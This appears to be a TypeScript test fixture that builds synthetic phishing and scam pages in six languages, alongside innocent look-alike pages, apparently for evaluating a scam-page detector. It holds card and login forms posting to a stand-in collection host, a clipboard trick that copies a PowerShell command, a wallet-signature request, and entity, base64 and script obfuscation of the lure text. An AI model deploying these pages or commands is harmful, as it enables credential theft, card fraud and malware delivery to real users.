import type { GivenDraft } from "../given-draft.ts"
import { site } from "../innocent-site.ts"
import words from "./words.json" with { type: "json" }

const form = (fields: string) =>
  `<form action="https://gather.example/a" method="post">${fields}<button>OK</button></form>`
const card = form(`<input name="cardnumber"><input name="exp"><input name="cvv">`)
const login = form(`<input name="mail"><input type="password" name="p">`)
const call = `<p><a href="tel:+18005550100">+1 800 555 0100</a></p>`
const chat = `<a href="https://t.me/moss_desk">Telegram</a>`
const script = (code: string) => `<script>${code}</script>`

/** What each class asks for. */
const asks: Readonly<Record<keyof typeof words, string>> = {
  bank: login,
  parcel: card,
  tax: card,
  police: form(`<input name="a"><input name="b">`),
  bill: card,
  mailbox: login,
  "other-account": "",
  command: `<button id="b">OK</button>${script(`b.onclick=()=>navigator.clipboard.writeText("powershell -w 1 gather.example")`)}`,
  charge: call,
  alarm: call,
  prize: card,
  payout: card,
  job: chat,
  invest: form(`<input name="first"><input name="phone">`),
  tokens: `<button id="b">OK</button>${script(`b.onclick=()=>ethereum.request({method:"eth_signTypedData_v4",params:[]})`)}`,
  phrase: form(`<textarea name="words"></textarea>`),
  scan: `<img src="a.png">`,
  update: `<a href="update.msi">OK</a>`,
  coins: `<p>bc1q${"a".repeat(34)}</p>`,
  many: form(`<input type="password" name="p"><input name="otp"><input name="cardnumber"><input name="ssn">`),
}

type Hides = (heading: string, text: string, ask: string) => string
const entities = (text: string) => Array.from(text, (letter) => `&#${letter.codePointAt(0)};`).join("")
const hides: Readonly<Record<string, Hides>> = {
  plain: (heading, text, ask) => `<h1>${heading}</h1><p>${text}</p>${ask}`,
  entities: (heading, text, ask) => `<div><h2>${entities(heading)}</h2><div>${entities(text)}</div></div>${ask}`,
  script: (heading, text, ask) =>
    `<div id="r"></div>${script(`r.innerHTML=${JSON.stringify(`<h1>${heading}</h1><p>${text}</p>${ask.replaceAll(/<(\/?)script>/gu, "<$1i>")}`)}`)}${ask.includes("<script>") ? ask : ""}`,
  base64: (heading, text, ask) =>
    `<h1>${heading}</h1>${script(`document.body.append(decodeURIComponent(escape(atob("${Buffer.from(`<p>${text}</p>`).toString("base64")}"))))`)}<p>${text}</p>${ask}`,
}

/** Every class in every language, hidden in turn. */
export const classDrafts: ReadonlyArray<GivenDraft> = Object.entries(words).flatMap(([name, spoken], row) =>
  Object.entries(spoken).flatMap(([language, [heading = "", text = ""]], column) => {
    const ways = Object.entries(hides)
    const [way, hide] = ways[(row + column) % ways.length] ?? ["plain", hides["plain"]]
    const ask = Object.entries(asks).find(([one]) => one === name)?.[1] ?? ""
    return hide === undefined ? [] : [site(`${name}, ${language}, ${way}`, heading, hide(heading, text, ask))]
  }),
)

/** The same ways to ask, by pages of their own names and for their own purposes. */
export const classInnocents: ReadonlyArray<GivenDraft> = Object.entries({
  en: ["Larkspur", "Sign in", "Pay by card", "Call us", "Write to us", "Scan the code with your phone"],
  de: ["Nebelkrähe", "Anmelden", "Mit Karte zahlen", "Rufen Sie uns an", "Schreiben Sie uns", "Scannen Sie den Code"],
  fr: ["Alouette", "Se connecter", "Payer par carte", "Appelez-nous", "Écrivez-nous", "Scannez le code"],
  es: ["Alondra", "Iniciar sesión", "Pagar con tarjeta", "Llámenos", "Escríbanos", "Escanee el código"],
  pl: ["Skowronek", "Zaloguj się", "Zapłać kartą", "Zadzwoń", "Napisz do nas", "Zeskanuj kod"],
  ja: ["ひばり商店", "ログイン", "カードで支払う", "お電話ください", "お問い合わせ", "コードをスキャン"],
}).flatMap(([language, [own = "", ...says]]) =>
  says.map((line, at) => {
    const body = [login, card, call, chat, `<img src="qr.png" alt="QR code">`][at]?.replace(
      "https://gather.example/a",
      "/a",
    )
    return site(
      `${line}, ${language}`,
      `${line} | ${own}`,
      `<header class="logo">${own}</header><h1>${line}</h1>${body}<p>© ${own}</p>`,
    )
  }),
)
